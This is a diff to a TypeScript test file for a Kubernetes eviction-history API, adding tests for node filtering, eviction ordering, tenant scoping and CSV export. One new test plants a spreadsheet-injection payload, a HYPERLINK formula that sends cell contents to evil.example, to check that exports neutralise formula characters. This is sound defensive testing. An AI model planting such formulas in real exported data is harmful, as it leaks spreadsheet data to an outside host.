@@ -10,7 +10,7 @@ import {
 } from '@plimsoll/shared/schemas';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 
-import { formatOffenders } from '../../src/services/export-evictions.js';
+import { formatOffenders, neutraliseCsvCell } from '../../src/services/export-evictions.js';
 import { buildClusterTestApp, errorBody, signIn } from '../helper.js';
 
 type ClusterApp = Awaited<ReturnType<typeof buildClusterTestApp>>;
@@ -117,7 +117,7 @@ function parseCsv(text: string): string[][] {
 function asCsvRow(e: Eviction): string[] {
   return EVICTION_CSV_COLUMNS.map((c) => {
     const v = c === 'offenders' ? formatOffenders(e) : e[c];
-    return v === null || v === undefined ? '' : String(v);
+    return neutraliseCsvCell(v === null || v === undefined ? '' : String(v));
   });
 }
 
@@ -235,7 +235,10 @@ describe.each([
       headers: sre,
     });
     expect(EvictionHistogramResponseSchema.parse(h.json()).total).toBe(filtered.items.length);
-    expect(filtered.items.every((i) => i.node === node)).toBe(true);
+    expect(filtered.items.every((i) => i.node?.includes(node))).toBe(true);
+    expect(filtered.items.filter((i) => i.node === node).length).toBe(
+      items.filter((i) => i.node === node).length,
+    );
   });
 
   it('exports CSV (Accept or format) that parses back to the same rows, and JSON downloads', async () => {
@@ -309,7 +312,25 @@ describe.each([
     expect(d.episode.hidden).toBe(0);
     expect(d.order.actual).toEqual(d.episode.evictions.map((e) => e.id));
     expect(d.order.signal).toBe(resource === 'memory' ? 'memory.available' : 'nodefs.available');
-    expect(typeof d.order.matches).toBe('boolean');
+    // The simulator's answer: the order its kubelet evicted in (the truth's sequence). Every episode lists exactly
+    // that order, and the ranking check agrees exactly when the kubelet's ranking of what Plimsoll recorded gives it.
+    const seqOf = new Map(settled.truth.map((e) => [e.details.uid, e.seq]));
+    const uidOf = new Map(items.map((i) => [i.id, i.podUid]));
+    const bySeq = (a: string, b: string) =>
+      (seqOf.get(uidOf.get(a) ?? '') ?? 0) - (seqOf.get(uidOf.get(b) ?? '') ?? 0);
+    for (const item of items) {
+      const o =
+        item === target
+          ? d
+          : EvictionDetailResponseSchema.parse(
+              (await t.app.inject({ url: `${BASE}/${item.id}`, headers: sre })).json(),
+            );
+      const truthOrder = [...o.order.actual].sort(bySeq);
+      expect(o.order.actual.every((id) => seqOf.has(uidOf.get(id) ?? ''))).toBe(true);
+      expect(o.order.actual).toEqual(truthOrder);
+      expect(o.order.matches).toBe(JSON.stringify(o.order.expected) === JSON.stringify(truthOrder));
+      if (o.order.actual.length === 1) expect(o.order.matches).toBe(true);
+    }
     expect(d.order.explanation.length).toBeGreaterThan(10);
     expect(d.pressure.series).toBe(resource === 'memory' ? 'memory' : 'nodefs');
     expect(d.pressure.threshold).toBeGreaterThan(0);
@@ -404,6 +425,20 @@ describe('evictions API: roles and tenant scoping', () => {
     ).toBe(400);
   });
 
+  it('filters by part of a node name, case-insensitively', async () => {
+    const { headers } = await signIn(t.app, 'viewer');
+    for (const [node, count] of [
+      ['node-a', 4],
+      ['NODE-', 4],
+      ['e-a', 4],
+      ['node-b', 0],
+      ['node-b,de-a', 4],
+    ] as const) {
+      const { items } = await listAll(t, headers, { from, to, node });
+      expect(items.length, node).toBe(count);
+    }
+  });
+
   it('shows SREs and viewers every namespace', async () => {
     for (const user of ['sre', 'viewer']) {
       const { headers } = await signIn(t.app, user);
@@ -455,8 +490,12 @@ describe('evictions API: roles and tenant scoping', () => {
     expect(own.statusCode, own.body).toBe(200);
     const d = EvictionDetailResponseSchema.parse(own.json());
     expect(d.episode.evictions.map((e) => e.pod)).toEqual(['api-1', 'api-2']);
-    expect(d.episode.count).toBe(4);
+    // The figures are those of the evictions the tenant admin may see: not shop-1's or x-1's usage or time.
+    expect(d.episode.count).toBe(2);
     expect(d.episode.hidden).toBe(2);
+    expect(d.episode.start).toBe(new Date(Date.parse(from) + 10 * 60_000).toISOString());
+    expect(d.episode.end).toBe(new Date(Date.parse(from) + 12 * 60_000).toISOString());
+    expect(d.episode.reclaimed).toBe(`${290 + 288}Mi`);
     expect(JSON.stringify(d)).not.toContain('shop-1');
     // The SRE sees the whole episode, and its order is the kubelet's: larger excess over the request first.
     const sre = (await signIn(t.app, 'sre')).headers;
@@ -466,6 +505,48 @@ describe('evictions API: roles and tenant scoping', () => {
     expect(full.episode.evictions.map((e) => e.pod)).toEqual(['api-1', 'shop-1', 'api-2', 'x-1']);
     expect(full.order.matches).toBe(true);
     expect(full.episode.reclaimed).toBe(`${290 + 289 + 288 + 287}Mi`);
+    expect(full.episode.count).toBe(4);
+    expect(full.episode.end).toBe(new Date(Date.parse(from) + 13 * 60_000).toISOString());
+  });
+
+  it('neutralises spreadsheet formulas in CSV cells (OWASP): = + - @ tab and CR get a leading quote', async () => {
+    const at = new Date(Date.parse(from) + 20 * 60_000);
+    await t.db.prisma.eviction.create({
+      data: {
+        cluster: 'sim',
+        namespace: 'acme-web',
+        pod: 'planted',
+        podUid: 'planted',
+        node: 'node-a',
+        tenant: '@acme',
+        ownerKind: '+Kind',
+        ownerName: '=HYPERLINK("http://evil.example/?"&A1,"open")',
+        qosClass: '\tBurstable',
+        resource: '\rmemory',
+        threshold: '-1+1',
+        offenders: [],
+        message: '=1+1',
+        evictedAt: at,
+        observedAt: at,
+      },
+    });
+    const { headers } = await signIn(t.app, 'sre');
+    const q = new URLSearchParams({ from, to, namespace: 'acme-web' });
+    const csv = await t.app.inject({ url: `${BASE}?${q}&format=csv`, headers });
+    expect(csv.statusCode).toBe(200);
+    const rows = parseCsv(csv.body);
+    const header = rows[0] as string[];
+    const planted = rows.find((r) => r[header.indexOf('pod')] === 'planted') as string[];
+    const cell = (c: string) => planted[header.indexOf(c)];
+    expect(cell('ownerName')).toBe('\'=HYPERLINK("http://evil.example/?"&A1,"open")');
+    expect(cell('ownerKind')).toBe("'+Kind");
+    expect(cell('tenant')).toBe("'@acme");
+    expect(cell('threshold')).toBe("'-1+1");
+    expect(cell('qosClass')).toBe("'\tBurstable");
+    expect(cell('resource')).toBe("'\rmemory");
+    // No cell of the export starts with a formula character.
+    for (const r of rows) for (const c of r) expect(c, c).not.toMatch(/^[=+\-@\t\r]/);
+    await t.db.prisma.eviction.deleteMany({ where: { podUid: 'planted' } });
   });
 
   it('flags an order the kubelet would not have chosen and says stale stats are the usual cause', async () => {
